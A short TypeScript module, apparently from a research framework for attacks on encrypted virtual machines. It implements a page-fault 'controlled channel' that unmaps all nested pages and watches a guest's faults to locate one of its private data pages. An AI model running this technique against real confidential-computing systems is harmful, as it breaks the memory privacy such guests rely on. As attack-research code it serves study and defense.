/** Finding memory that a guest uses, without seeing anything of the guest: by its nested page faults. */
import { NestedFaultInfo, SvmExit } from '@cofferdam/spec'
import type { AttackServices, EntryVcpu } from './types.ts'

/** Faults that pass first, and how many may pass more. */
const FIRST = 6
const CHOICE = 16
const PAGE = 4096n

const { ENC, I, final } = NestedFaultInfo.mask

/**
 * A "controlled channel": takes all mappings away, once, and waits for what the guest touches then. Of its private data
 * (no code, no page tables) the seed chooses one fault.
 * @returns a function for each entry; it answers the guest physical address of that fault, −1 before
 */
export function createPageInUse({ npt, memory, flush, below }: AttackServices): (vcpu: EntryVcpu) => number {
  let left = -1
  let found = -1
  return ({ vmcb }) => {
    if (found >= 0) return found
    if (left < 0) {
      npt.clear()
      flush()
      left = FIRST + below(CHOICE)
      return -1
    }
    const [info, at] = [vmcb.get('exitInfo1'), vmcb.get('exitInfo2')]
    if (vmcb.get('exitCode') !== BigInt(SvmExit.NPF)) return -1
    const isPrivateData = (info & (ENC | final)) === (ENC | final) && (info & I) === 0n
    if (isPrivateData && memory.isRam(Number(at / PAGE)) && left-- === 0) found = Number(at)
    return found
  }
}
